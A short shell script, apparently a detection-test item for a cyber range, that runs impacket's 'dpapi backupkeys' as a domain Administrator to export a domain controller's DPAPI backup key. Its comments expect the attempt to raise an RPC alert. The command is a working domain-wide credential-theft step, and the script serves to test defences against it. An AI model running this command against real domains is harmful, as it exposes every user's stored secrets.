# SPDX-License-Identifier: Apache-2.0
# what: the private key that opens the secrets of all users of the domain
# technique: T1555
# from: ws1
# to: dc1
# account: Administrator
# outcome: attempt
# must: alert rpc
. "$RANGE_HERE/item.sh"
cd "$HOME"
impacket dpapi backupkeys -t "CORP/Administrator:$ADMIN_PASSWORD@$dc1" --export
true
